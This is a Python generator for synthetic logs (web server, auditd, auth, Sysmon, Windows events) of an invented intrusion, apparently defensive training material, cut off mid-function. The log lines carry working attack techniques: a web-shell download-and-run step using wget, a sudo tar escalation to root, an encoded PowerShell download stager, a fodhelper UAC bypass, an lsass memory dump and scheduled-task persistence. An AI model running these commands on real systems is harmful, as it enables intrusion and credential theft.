#!/usr/bin/env python3
"""Writes content/samples/attack: the logs of one invented attack among innocent background.

    python3 tools/make_attack_sample.py             write the files
    python3 tools/make_attack_sample.py --check     compare them with what is on disk
    python3 tools/make_attack_sample.py --out DIR   write somewhere else

The output depends on nothing but this file: the same bytes on every run and every Python 3.
Every address, name and key is invented or reserved for documentation. The story is told in
content/samples/README.md; the functions attack_* below follow its order.
"""
import argparse
import base64
import calendar
import hashlib
import json
import pathlib
import sys
import time
import urllib.parse

DAY = calendar.timegm((2026, 11, 3, 0, 0, 0))
START, END = "08:00:00", "11:00:00"

WEB01, WKS07, DC01, FS01, MAIL = "10.20.20.15", "10.20.30.47", "10.20.10.11", "10.20.10.30", "10.20.10.25"
INTRUDER, C2, DROP, TUNNEL = "203.0.113.66", "198.51.100.23", "198.51.100.77", "t.cdn-sync.example.net"
SID = "S-1-5-21-1004336348-1177238915-682003330"
USERS = ["j.ward", "m.osei", "a.lind", "r.novak", "k.haas", "p.silva", "t.brandt", "s.iyer",
         "l.dumont", "e.koch", "d.price", "n.ruiz", "o.berg", "f.moreau", "svc_report", "svc_backup"]
ACCOUNT = "123456789012"
KEY_STOLEN, KEY_NEW = "AKIAIOSFODNN7EXAMPLE", "AKIAI44QH8DHBEXAMPLE"   # from the AWS documentation

FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"
SAFARI = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1"

RECORD = "@RECORD@"

class Rng:
    """splitmix64: small, and the same in every version of Python."""

    def __init__(self, seed):
        self.state = seed

    def bits(self):
        mask = (1 << 64) - 1
        self.state = z = (self.state + 0x9E3779B97F4A7C15) & mask
        z = ((z ^ (z >> 30)) * 0xBF58476D1CE4E5B9) & mask
        z = ((z ^ (z >> 27)) * 0x94D049BB133111EB) & mask
        return z ^ (z >> 31)

    def below(self, n):
        return self.bits() % n

    def between(self, low, high):
        return low + self.below(high - low + 1)

    def pick(self, items):
        return items[self.below(len(items))]

    def chance(self, percent):
        return self.below(100) < percent

    def letters(self, n, alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"):
        return "".join(self.pick(alphabet) for _ in range(n))

def at(clock):
    """Milliseconds since the epoch of a time of day, "08:15:40" or "08:15:40.250"."""
    hms, _, ms = clock.partition(".")
    h, m, s = (int(x) for x in hms.split(":"))
    return (DAY + h * 3600 + m * 60 + s) * 1000 + int((ms + "000")[:3])

def stamp(ms, form):
    return time.strftime(form, time.gmtime(ms // 1000))

def iso(ms, digits=3):
    return stamp(ms, "%Y-%m-%dT%H:%M:%S.") + f"{ms % 1000:03d}" + "0" * (digits - 3)

def digest(*parts):
    return hashlib.sha256("|".join(str(p) for p in parts).encode()).hexdigest()

def guid(*parts):
    h = digest(*parts)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"

def sid(user):
    return f"{SID}-{500 if user == 'Administrator' else 1100 + int(digest(user)[:3], 16)}"

def pairs(text, **more):
    """A dictionary from "Name=value Name=value", for values without a blank."""
    return {**dict(item.split("=", 1) for item in text.split()), **more}

def dumps(value):
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))

class Stream:
    """The lines of one file. `attack` marks the lines of the intruder; only the counts use it.

    RECORD in a line becomes the number of its record: numbers rise with the time, as in a real log.
    Lines that are added with one `group` share a number.
    """

    def __init__(self, path, head="", foot="", joint="\n", first_record=1):
        self.path, self.head, self.foot, self.joint, self.first_record, self.rows = path, head, foot, joint, first_record, []

    def add(self, ms, text, attack=False, group=None):
        self.rows.append((ms, len(self.rows), text, attack, group))

    def lines(self):
        """Pairs of a line and whether it is the intruder's."""
        record, last = self.first_record - 1, None
        for _, number, text, attack, group in sorted(self.rows, key=lambda row: row[:2]):
            key = number if group is None else group
            record += key != last
            last = key
            yield text.replace(RECORD, str(record)), attack

    def text(self):
        return self.head + self.joint.join(line for line, _ in self.lines()) + "\n" + self.foot

def times(rng, count, start=START, end=END):
    low, high = at(start), at(end) - 1
    return sorted(rng.between(low, high) for _ in range(count))

# ------------------------------------------------------------------ web01: nginx access.log
def access(ms, client, request, status, size, agent=FIREFOX, referer="-"):
    return f'{client} - - [{stamp(ms, "%d/%b/%Y:%H:%M:%S")} +0000] "{request} HTTP/1.1" {status} {size} "{referer}" "{agent}"'

def background_access(log, rng):
    pages = ("/ / /catalog/ /catalog/lamps /catalog/chairs?sort=price /product.php?id=7 /product.php?id=12 /product.php?id=31 /search?q=oak+table "
             "/search?q=floor+lamp&page=2 /cart /about /help/returns /blog/2026/10/autumn /sitemap.xml").split()
    assets = ("/assets/site.css /assets/site.js /uploads/2026/10/lamp-01.jpg /uploads/2026/10/chair-04.jpg /uploads/2026/11/table-02.png "
              "/favicon.ico /assets/fonts/inter.woff2").split()
    clients = [f"192.0.2.{n}" for n in range(20, 240, 9)] + ["2001:db8:40::1c", "2001:db8:77:2::9"]
    shop = "http://shop.example.com/"
    for ms in times(rng, 440):
        client, agent = rng.pick(clients), rng.pick([FIREFOX, CHROME, CHROME, SAFARI])
        if rng.chance(45):
            log.add(ms, access(ms, client, "GET " + rng.pick(assets), 304 if rng.chance(30) else 200, rng.between(900, 90000), agent, shop))
        else:
            log.add(ms, access(ms, client, "GET " + rng.pick(pages), 200, rng.between(4000, 42000), agent))
    for ms in times(rng, 40):
        log.add(ms, access(ms, rng.pick(clients), "POST /api/v1/cart", 200, rng.between(80, 400), CHROME, shop + "cart"))
    for ms in times(rng, 22):
        status, size = (401, 88) if rng.chance(15) else (302, 0)
        log.add(ms, access(ms, rng.pick(clients), "POST /account/login", status, size, CHROME, shop + "account/login"))
    for ms in times(rng, 6):
        log.add(ms, access(ms, rng.pick(clients), "POST /account/upload.php", 302, 0, FIREFOX, shop + "account/profile"))
    for ms in times(rng, 30):
        log.add(ms, access(ms, "192.0.2.5", "GET " + rng.pick(pages), rng.pick([200, 200, 200, 404]), rng.between(2000, 30000),
                           "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.com/)"))
    for minute in range(0, 180, 2):
        ms = at(START) + minute * 60000 + 4000
        log.add(ms, access(ms, "10.20.20.2", "GET /healthz", 200, 2, "HAProxy"))
    for ms in times(rng, 14):      # noise of the Internet
        log.add(ms, access(ms, f"198.51.100.{rng.between(130, 250)}",
                           "GET " + rng.pick(["/wp-login.php", "/.env", "/robots.txt", "/xmlrpc.php", "/actuator/health"]),
                           404, 153, rng.pick(["curl/8.5.0", "Go-http-client/1.1", FIREFOX])))

SHELL = "/uploads/2026/11/logo.php"
SHELL_COMMANDS = [   # time, command, bytes of the answer
    ("08:16:04", "id", 54), ("08:16:21", "whoami", 9), ("08:16:40", "uname -a", 121), ("08:17:12", "cat /etc/passwd", 1893),
    ("08:17:55", "ls -la /var/www/shop", 1410), ("08:18:30", "cat /var/www/shop/.env", 612), ("08:19:20", "ps aux", 9210),
    ("08:20:50", f"wget http://{C2}/l/k -O /tmp/.k", 0), ("08:20:56", "chmod 755 /tmp/.k", 0), ("08:21:00", "/tmp/.k", 0)]

def attack_access(log, rng):
    words = ("admin backup cgi-bin config console dev old test tmp api/v2 phpmyadmin pma manager status server-info db sql dump .git/config svn "
             ".env portal intranet stage beta private secret logs data export files includes inc lib vendor node_modules .htaccess .htpasswd "
             "web.config install setup upgrade shell upload uploads account/admin account/upload account/export cms drupal joomla wp-admin "
             "backup.zip site.tar.gz").split()
    ms, agent = at("08:02:10"), "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)"
    for n, word in enumerate(words):
        status = 302 if word == "account/upload" else 403 if word in ("uploads", ".htaccess") else 404
        log.add(ms, access(ms, INTRUDER, "GET /" + word, status, 153, agent if n < 4 else FIREFOX), True)
        ms += rng.between(600, 1500)
    for n in range(12):
        ms = at("08:09:00") + n * 4100
        probe = f"GET /product.php?id=7%20UNION%20ALL%20SELECT%20{','.join(['NULL'] * (n + 1))}--%20-"
        log.add(ms, access(ms, INTRUDER, probe, 500 if n < 8 else 200, 620 + n), True)
    for clock, request, status in [("08:13:02", "GET /account/login", 200), ("08:13:40", "POST /account/register", 302),
                                   ("08:14:10", "GET /account/profile", 200), ("08:14:51", "POST /account/upload.php", 302)]:
        log.add(at(clock), access(at(clock), INTRUDER, request, status, 0 if status == 302 else 5120), True)
    log.add(at("08:15:40"), access(at("08:15:40"), INTRUDER, "GET " + SHELL, 200, 0), True)
    for clock, command, size in SHELL_COMMANDS:
        query = urllib.parse.quote(command, safe="")
        log.add(at(clock), access(at(clock), INTRUDER, f"GET {SHELL}?cmd={query}", 200, size), True)

# ------------------------------------------------------------------ web01: auditd
class Audit:
    """Raw records of auditd: one event is several lines with the same time and serial number."""

    def __init__(self, log):
        self.log, self.events = log, 0

    @staticmethod
    def value(text):
        """A word is quoted; text with a blank, a quote or a control character is written in hex."""
        return text.encode().hex().upper() if any(c in text for c in " \"\t\n") else f'"{text}"'

    def record(self, ms, kind, rest, attack=False):
        self.log.add(ms, f"type={kind} msg=audit({ms // 1000}.{ms % 1000:03d}:{RECORD}): {rest}", attack, f"event {self.events}")

    def syscall(self, ms, number, args, exe, pid, ppid, uid, euid, auid, ses, tty, key, attack):
        self.events += 1
        euid = uid if euid is None else euid
        self.record(ms, "SYSCALL", f"arch=c000003e syscall={number} success=yes {args} items=2 ppid={ppid} pid={pid} auid={auid} uid={uid} gid={uid} "
                    f"euid={euid} suid={euid} fsuid={euid} egid={euid} sgid={euid} fsgid={euid} tty={tty} ses={ses} "
                    f"comm={self.value(exe.rsplit('/', 1)[1][:15])} exe={self.value(exe)} subj=unconfined key=\"{key}\"", attack)

    def path(self, ms, item, name, mode, kind, attack):
        self.record(ms, "PATH", f"item={item} name={self.value(name)} inode={131000 + int(digest(name)[:3], 16)} dev=08:01 mode={mode} ouid=0 ogid=0 "
                    f"rdev=00:00 nametype={kind} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0", attack)

    def execve(self, ms, exe, argv, pid, ppid, uid, cwd, auid=4294967295, ses=4294967295, tty="(none)", attack=False, euid=None):
        args = f"exit=0 a0=55d0c8a3f{pid % 4096:03x} a1=55d0c8a3e010 a2=55d0c8a3b2a0 a3=8"
        self.syscall(ms, 59, args, exe, pid, ppid, uid, euid, auid, ses, tty, "exec", attack)
        self.record(ms, "EXECVE", f"argc={len(argv)} " + " ".join(f"a{i}={self.value(a)}" for i, a in enumerate(argv)), attack)
        self.record(ms, "CWD", f"cwd={self.value(cwd)}", attack)
        self.path(ms, 0, exe, "0100755", "NORMAL", attack)
        self.record(ms, "PROCTITLE", "proctitle=" + "\0".join(argv).encode().hex().upper(), attack)

    def write(self, ms, exe, path, pid, ppid, key, attack=False):
        args = f"exit=3 a0=ffffff9c a1=7ffd1c2a{pid % 65536:04x} a2=241 a3=1b6"
        self.syscall(ms, 257, args, exe, pid, ppid, 0, 0, 4294967295, 4294967295, "(none)", key, attack)
        self.record(ms, "CWD", 'cwd="/"', attack)
        self.path(ms, 0, path.rsplit("/", 1)[0] + "/", "040755", "PARENT", attack)
        self.path(ms, 1, path, "0100600", "CREATE", attack)

WWW, PHP = 33, 1312       # user www-data, process id of php-fpm

def background_audit(audit, rng):
    jobs = [("/usr/bin/run-parts", "run-parts --report /etc/cron.hourly"), ("/usr/lib/php/sessionclean", "/bin/sh /usr/lib/php/sessionclean"),
            ("/usr/bin/find", "find -O3 /var/lib/php/sessions -ignore_readdir_race -depth -mindepth 1 -name sess_* -type f -cmin +24 -delete"),
            ("/usr/bin/php8.2", "php /var/www/shop/bin/queue.php --once"), ("/usr/bin/df", "df -P -T"), ("/usr/bin/uptime", "uptime"),
            ("/usr/bin/systemctl", "systemctl is-active nginx")]
    for n, ms in enumerate(times(rng, 84)):
        exe, command = rng.pick(jobs)
        audit.execve(ms, exe, command.split(), 20000 + n * 7, 640 if n % 3 else 880, 0, "/root", auid=0, ses=300 + n)
    for n, ms in enumerate(times(rng, 10, "08:50:00", "10:40:00")):
        exe, command = rng.pick([("/usr/bin/git", "git status --short"), ("/usr/bin/less", "less /var/log/nginx/error.log"),
                                 ("/usr/bin/vim.basic", "vim config/routes.php"), ("/usr/bin/ls", "ls --color=auto -l")])
        audit.execve(ms, exe, command.split(), 27000 + n * 11, 26990, 1001, "/var/www/shop", auid=1001, ses=412, tty="pts0")

ROOT_STEP = "08:26:31"

def attack_audit(audit, rng):
    pid = 22410
    for clock, command, _ in SHELL_COMMANDS:
        ms = at(clock) + 40
        audit.execve(ms, "/usr/bin/dash", ["sh", "-c", command], pid, PHP, WWW, "/var/www/shop/uploads/2026/11", attack=True)
        argv = command.split()
        exe = argv[0] if argv[0].startswith("/") else "/usr/bin/" + argv[0]
        audit.execve(ms + 3, exe, argv, pid + 1, pid, WWW, "/var/www/shop/uploads/2026/11", attack=True)
        pid += rng.between(5, 40)
    audit.execve(at("08:25:40"), "/usr/bin/sudo", ["sudo", "-l"], 22900, 22870, WWW, "/tmp", attack=True, euid=0)
    tar = ["tar", "-cf", "/dev/null", "/dev/null", "--checkpoint=1", "--checkpoint-action=exec=/bin/sh"]
    audit.execve(at(ROOT_STEP), "/usr/bin/sudo", ["sudo"] + tar, 22911, 22870, WWW, "/tmp", attack=True, euid=0)
    audit.execve(at(ROOT_STEP) + 15, "/usr/bin/tar", tar, 22912, 22911, 0, "/tmp", attack=True)
    audit.execve(at(ROOT_STEP) + 22, "/usr/bin/dash", ["/bin/sh"], 22913, 22912, 0, "/tmp", attack=True)
    audit.execve(at("08:27:30"), "/tmp/.k", ["/tmp/.k", "-p"], 22921, 22913, 0, "/tmp", attack=True)
    audit.write(at("08:28:02"), "/tmp/.k", "/root/.ssh/authorized_keys", 22921, 22913, "ssh_keys", attack=True)
    audit.write(at("08:28:40"), "/usr/bin/dash", "/etc/cron.d/php-cache", 22913, 22912, "cron", attack=True)

# ------------------------------------------------------------------ web01: auth.log
def auth(ms, program, pid, text):
    return f"{iso(ms, 6)}+00:00 web01 {program}{f'[{pid}]' if pid else ''}: {text}"

def background_auth(log, rng):
    for n, ms in enumerate(times(rng, 32)):
        pid = 20000 + n * 13
        log.add(ms, auth(ms, "CRON", pid, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"))
        log.add(ms + 210, auth(ms + 210, "CRON", pid, "pam_unix(cron:session): session closed for user root"))
    for n, ms in enumerate(times(rng, 22)):     # noise of the Internet
        source, name, pid = f"198.51.100.{rng.between(130, 250)}", rng.pick(["admin", "ubuntu", "test", "oracle", "git"]), 31000 + n * 9
        port = rng.between(30000, 60000)
        log.add(ms, auth(ms, "sshd", pid, f"Invalid user {name} from {source} port {port}"))
        log.add(ms + 350, auth(ms + 350, "sshd", pid, f"Connection closed by invalid user {name} {source} port {port} [preauth]"))
    for n, ms in enumerate(times(rng, 5, "08:45:00", "10:30:00")):
        pid, port = 26800 + n * 31, rng.between(40000, 60000)
        key = "ED25519 SHA256:Yw7mT2hX0vQ8oB4nK1dR6sJ3cE5aL9uP0iZxGfVtHqA"
        log.add(ms, auth(ms, "sshd", pid, f"Accepted publickey for deploy from 10.20.10.60 port {port} ssh2: {key}"))
        log.add(ms + 20, auth(ms + 20, "sshd", pid, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"))
        log.add(ms + 60000, auth(ms + 60000, "sudo", 0, "  deploy : TTY=pts/0 ; PWD=/var/www/shop ; USER=root ; "
                                 "COMMAND=/usr/bin/systemctl reload php8.2-fpm"))
        log.add(ms + 600000, auth(ms + 600000, "sshd", pid, "pam_unix(sshd:session): session closed for user deploy"))

def attack_auth(log, _):
    tar = "/usr/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh"
    key = "ED25519 SHA256:0aVb3RkQm8sWzE1tYp5uLx7cNfGh2JdKi4oPqBvTnXs"
    for clock, program, pid, text in [
            ("08:25:40", "sudo", 0, "www-data : PWD=/tmp ; USER=root ; COMMAND=list"),
            (ROOT_STEP, "sudo", 0, f"www-data : PWD=/tmp ; USER=root ; COMMAND={tar}"),
            (ROOT_STEP + ".009", "sudo", 0, "pam_unix(sudo:session): session opened for user root(uid=0) by (uid=33)"),
            ("08:29:15", "sshd", 23010, f"Accepted publickey for root from {INTRUDER} port 50122 ssh2: {key}"),
            ("08:29:15.030", "sshd", 23010, "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)")]:
        log.add(at(clock), auth(at(clock), program, pid, text), True)

# ------------------------------------------------------------------ wks07: Sysmon as NXLog writes it
WKS_HOST, DC_HOST = "wks07.corp.example.com", "dc01.corp.example.com"

class Sysmon:
    def __init__(self, log):
        self.log = log

    def add(self, ms, event_id, data, attack=False):
        event = {"EventTime": stamp(ms, "%Y-%m-%d %H:%M:%S"), "Hostname": WKS_HOST, "Keywords": -9223372036854775808, "EventID": event_id, "Task": event_id,
                 "SeverityValue": 2, "Version": 5, "OpcodeValue": 0, "RecordNumber": 0, "ExecutionProcessID": 3120, "ExecutionThreadID": 4188,
                 "Domain": "NT AUTHORITY", "UtcTime": iso(ms).replace("T", " ")}
        event.update(pairs("EventType=INFO Severity=INFO SourceName=Microsoft-Windows-Sysmon ProviderGuid={5770385F-C22A-43E0-BF4C-06F5698FFBD9} "
                           "Channel=Microsoft-Windows-Sysmon/Operational AccountName=SYSTEM UserID=S-1-5-18 AccountType=User Opcode=Info RuleName=-"))
        event.update(data)
        event.update(EventReceivedTime=stamp(ms + 1000, "%Y-%m-%d %H:%M:%S"), SourceModuleName="sysmon", SourceModuleType="im_msvistalog")
        self.log.add(ms, dumps(event).replace('"RecordNumber":0', f'"RecordNumber":{RECORD}'), attack)

    @staticmethod
    def process_guid(image, pid):
        return "{" + guid(image, pid).upper() + "}"

    def create(self, ms, image, command, pid, parent, ppid, parent_command, user="CORP\\j.ward", level="Medium",
               original=None, attack=False, company="Microsoft Corporation", folder="C:\\Users\\j.ward\\"):
        name = image.rsplit("\\", 1)[1]
        h = digest(image)
        system = user.startswith("NT AUTHORITY")
        self.add(ms, 1, {
            "ProcessGuid": self.process_guid(image, pid), "ProcessId": str(pid), "Image": image, "FileVersion": "10.0.22621.4317",
            "Description": name[:-4], "Product": "Microsoft® Windows® Operating System" if company.startswith("Microsoft") else company,
            "Company": company, "OriginalFileName": original or name, "CommandLine": command,
            "CurrentDirectory": "C:\\Windows\\system32\\" if system else folder, "User": user,
            "LogonGuid": "{" + guid(user).upper() + "}", "LogonId": "0x3e7" if system else "0x7a31c",
            "TerminalSessionId": "0" if system else "1", "IntegrityLevel": "System" if system else level,
            "Hashes": f"SHA256={h.upper()},IMPHASH={h[:32].upper()}", "ParentProcessGuid": self.process_guid(parent, ppid),
            "ParentProcessId": str(ppid), "ParentImage": parent, "ParentCommandLine": parent_command, "ParentUser": user}, attack)

    def process(self, image, pid):
        return {"ProcessGuid": self.process_guid(image, pid), "ProcessId": str(pid), "Image": image, "User": "CORP\\j.ward"}

    def connect(self, ms, image, pid, ip, port, host="-", attack=False):
        self.add(ms, 3, {**self.process(image, pid), "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": WKS07, "SourceHostname": WKS_HOST,
                         "SourcePort": str(50000 + pid % 9000), "SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": ip,
                         "DestinationHostname": host, "DestinationPort": str(port), "DestinationPortName": "https" if port == 443 else "-"}, attack)

CHROME_EXE = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
WINWORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
SVCHOST, SERVICES = "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\services.exe"
EXPLORER, CMD = "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SITES = ["www.example.com", "mail.example.com", "news.example.org", "cdn.example.com", "login.example.com", "wiki.corp.example.com",
         "intranet.corp.example.com", "updates.example.net", "img.example.org", "calendar.example.com"]

def background_sysmon(sysmon, rng):
    system, office = "NT AUTHORITY\\SYSTEM", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
    sys32 = "C:\\Windows\\System32\\"
    host, shell = f"{sys32}svchost.exe -k ", "C:\\Windows\\Explorer.EXE"
    programs = [   # image, command line, parent, its process id, its command line, more
        (SVCHOST, host + "netsvcs -p -s wuauserv", SERVICES, 788, SERVICES, {"user": system}),
        (SVCHOST, host + "LocalService -p -s NcbService", SERVICES, 788, SERVICES, {"user": system}),
        (sys32 + "taskhostw.exe", "taskhostw.exe Install $(Arg0)", SVCHOST, 1496, host + "netsvcs -p -s Schedule", {"user": system}),
        (sys32 + "SearchProtocolHost.exe", f'"{sys32}SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe', sys32 + "SearchIndexer.exe", 4420,
         f"{sys32}SearchIndexer.exe /Embedding", {"user": system}),
        (sys32 + "RuntimeBroker.exe", f"{sys32}RuntimeBroker.exe -Embedding", SVCHOST, 1020, host + "DcomLaunch -p", {}),
        (CHROME_EXE, f'"{CHROME_EXE}" --type=renderer --lang=en-GB', CHROME_EXE, 6120, f'"{CHROME_EXE}"', {"company": "Google LLC", "level": "Low"}),
        (office, f'"{office}" "\\\\fs01\\sales\\forecast-q4.xlsx"', EXPLORER, 5012, shell, {}),
        (WINWORD, f'"{WINWORD}" /n "\\\\fs01\\projects\\offer-4471.docx" /o ""', EXPLORER, 5012, shell, {"original": "WinWord.exe"}),
        (sys32 + "notepad.exe", f'"{sys32}notepad.exe" C:\\Users\\j.ward\\Desktop\\notes.txt', EXPLORER, 5012, shell, {})]
    for n, ms in enumerate(times(rng, 90)):
        image, command, parent, ppid, parent_command, more = rng.pick(programs)
        sysmon.create(ms, image, command, 9000 + n * 4, parent, ppid, parent_command, **more)
    for ms in times(rng, 80):
        site = rng.pick(SITES)
        address = f"192.0.2.{80 + len(site)}"
        sysmon.add(ms, 22, {**sysmon.process(CHROME_EXE, 6120), "QueryName": site, "QueryStatus": "0", "QueryResults": f"::ffff:{address};"})
        sysmon.connect(ms + 40, CHROME_EXE, 6120, address, 443, site)
    for n, ms in enumerate(times(rng, 36)):
        cache = f"C:\\Users\\j.ward\\AppData\\Local\\Microsoft\\Outlook\\RoamCache\\Stream_{n:03d}.dat"
        sysmon.add(ms, 11, {**sysmon.process(OUTLOOK, 6640), "TargetFilename": cache, "CreationUtcTime": iso(ms).replace("T", " ")})
    for n, ms in enumerate(times(rng, 30)):
        recent = f"HKU\\{sid('j.ward')}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\{n}"
        sysmon.add(ms, 13, {"EventType": "SetValue", **sysmon.process(EXPLORER, 5012), "TargetObject": recent, "Details": "Binary Data"})

DOCUMENT = "C:\\Users\\j.ward\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RT2M1K\\Invoice-2026-1103.docm"
STAGER = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2}/t/a.ps1')"
ENCODED = base64.b64encode(STAGER.encode("utf-16le")).decode()
STAGER_COMMAND = f"powershell.exe -NoP -W Hidden -Enc {ENCODED}"
DUMP = "C:\\Users\\Public\\lsass.dmp"

def attack_sysmon(sysmon, _):
    word = f'"{WINWORD}" /n "{DOCUMENT}" /o ""'
    sysmon.create(at("08:52:11"), WINWORD, word, 7804, OUTLOOK, 6640, f'"{OUTLOOK}"', original="WinWord.exe", attack=True)
    sysmon.create(at("08:52:19"), POWERSHELL, STAGER_COMMAND, 7960, WINWORD, 7804, word, original="PowerShell.EXE", attack=True)
    sysmon.connect(at("08:52:21"), POWERSHELL, 7960, C2, 80, attack=True)
    for n in range(5):
        sysmon.connect(at("08:54:40") + n * 1500000, POWERSHELL, 7960, C2, 443, attack=True)
    questions = ["whoami /all", "ipconfig /all", "net user j.ward /domain", 'net group "Domain Admins" /domain', "nltest /dclist:corp.example.com",
                 "systeminfo", "tasklist /v", "net view \\\\fs01"]
    for n, command in enumerate(questions):
        tool = command.split()[0] + ".exe"
        sysmon.create(at("08:57:04") + n * 13000, "C:\\Windows\\System32\\" + tool, command, 8010 + n * 6, POWERSHELL, 7960, STAGER_COMMAND, attack=True)
    key = f"HKU\\{sid('j.ward')}_Classes\\ms-settings\\shell\\open\\command\\"
    for n, (value, details) in enumerate([("(Default)", STAGER_COMMAND), ("DelegateExecute", "(Empty)")]):
        sysmon.add(at("09:08:02") + n * 300, 13, {"EventType": "SetValue", **sysmon.process(POWERSHELL, 7960), "TargetObject": key + value,
                                                  "Details": details}, True)
    fod = "C:\\Windows\\System32\\fodhelper.exe"
    sysmon.create(at("09:08:05"), fod, f'"{fod}"', 8300, POWERSHELL, 7960, STAGER_COMMAND, level="High", original="FodHelper.EXE", attack=True)
    sysmon.create(at("09:08:06"), POWERSHELL, STAGER_COMMAND, 8322, fod, 8300, f'"{fod}"', level="High", original="PowerShell.EXE", attack=True)
    rundll = "C:\\Windows\\System32\\rundll32.exe"
    command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 812 {DUMP} full"
    ms = at("09:10:20")
    sysmon.create(ms, rundll, command, 8410, POWERSHELL, 8322, STAGER_COMMAND, level="High", original="RUNDLL32.EXE", attack=True)
    sysmon.add(ms + 400, 10, {
        "SourceProcessGUID": sysmon.process_guid(rundll, 8410), "SourceProcessId": "8410", "SourceThreadId": "8416", "SourceImage": rundll,
        "TargetProcessGUID": sysmon.process_guid("C:\\Windows\\System32\\lsass.exe", 812), "TargetProcessId": "812",
        "TargetImage": "C:\\Windows\\System32\\lsass.exe", "GrantedAccess": "0x1fffff",
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9f8f4|C:\\Windows\\System32\\KERNELBASE.dll+2f7be|C:\\Windows\\System32\\comsvcs.dll+2c8a1|"
                     "C:\\Windows\\System32\\rundll32.exe+3ca1|C:\\Windows\\System32\\KERNEL32.DLL+1257d", "SourceUser": "CORP\\j.ward",
        "TargetUser": "NT AUTHORITY\\SYSTEM"}, True)
    sysmon.add(ms + 700, 11, {**sysmon.process(rundll, 8410), "TargetFilename": DUMP, "CreationUtcTime": iso(ms + 700).replace("T", " ")}, True)
    sysmon.create(at("09:14:05"), "C:\\Windows\\System32\\schtasks.exe",
                  f'schtasks.exe /create /tn "OneDrive Reporting Task" /tr "{STAGER_COMMAND}" /sc hourly /ru SYSTEM /f', 8470, POWERSHELL, 8322,
                  STAGER_COMMAND, level="High", original="schtasks.exe", attack=True)

# ------------------------------------------------------------------ wks07: Security and PowerShell as Winlogbeat writes them
SECURITY_GUID = "{54849625-5478-4994-A5BA-3E3B0328C30D}"

class Winlogbeat:
    def __init__(self, log):
        self.log = log

    def add(self, ms, event_id, action, data, attack=False, channel="Security", provider="Microsoft-Windows-Security-Auditing",
            provider_guid=SECURITY_GUID, message=None):
        event = {"@timestamp": iso(ms) + "Z", "event": {"code": str(event_id), "kind": "event", "provider": provider, "action": action,
                                                        "created": iso(ms + 1200) + "Z", "outcome": "failure" if event_id == 4625 else "success"},
                 "log": {"level": "information"}, "host": {"name": WKS_HOST},
                 "winlog": {"channel": channel, "provider_name": provider, "provider_guid": provider_guid, "event_id": str(event_id),
                            "record_id": 0, "computer_name": WKS_HOST, "api": "wineventlog", "opcode": "Info", "task": action,
                            "process": {"pid": 812, "thread": {"id": 860 + ms % 7}}, "event_data": data},
                 "message": message or action, "ecs": {"version": "8.0.0"},
                 "agent": {"type": "winlogbeat", "version": "8.15.3", "name": "wks07", "id": guid("winlogbeat wks07")}}
        self.log.add(ms, dumps(event).replace('"record_id":0', f'"record_id":{RECORD}'), attack)

    def script_block(self, ms, path, text, attack=False):
        self.add(ms, 4104, "Execute a Remote Command", {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text, "ScriptBlockId": guid(ms, text),
                 "Path": path}, attack, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell",
                 "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}", "Creating Scriptblock text (1 of 1)")

def logon_data(user, kind, logon_id, ip="-", process="C:\\Windows\\System32\\svchost.exe", package="Kerberos", user_sid=None):
    kerberos = package == "Kerberos"
    return pairs(f"SubjectUserSid=S-1-0-0 SubjectUserName=- SubjectDomainName=- SubjectLogonId=0x0 TargetUserSid={user_sid or sid(user)} "
                 f"TargetUserName={user} TargetDomainName=CORP TargetLogonId={logon_id} LogonType={kind} LogonProcessName={'Kerberos' if kerberos else 'NtLmSsp'} "
                 f"AuthenticationPackageName={package} WorkstationName={'-' if kerberos else 'WKS07'} LogonGuid={{{guid(user, logon_id).upper()}}} "
                 f"TransmittedServices=- LmPackageName=- KeyLength={0 if kerberos else 128} ProcessId=0x0 ProcessName={process if kind in (2, 5, 7) else '-'} "
                 f"IpAddress={ip} IpPort={0 if ip == '-' else 49812} ImpersonationLevel=%%1833 RestrictedAdminMode=- TargetOutboundUserName=- "
                 "TargetOutboundDomainName=- VirtualAccount=%%1843 TargetLinkedLogonId=0x0 ElevatedToken=%%1842")

def background_winlogbeat(beat, rng):
    for n, ms in enumerate(times(rng, 52)):
        logon_id = f"0x{0x810000 + n * 977:x}"
        if rng.chance(70):
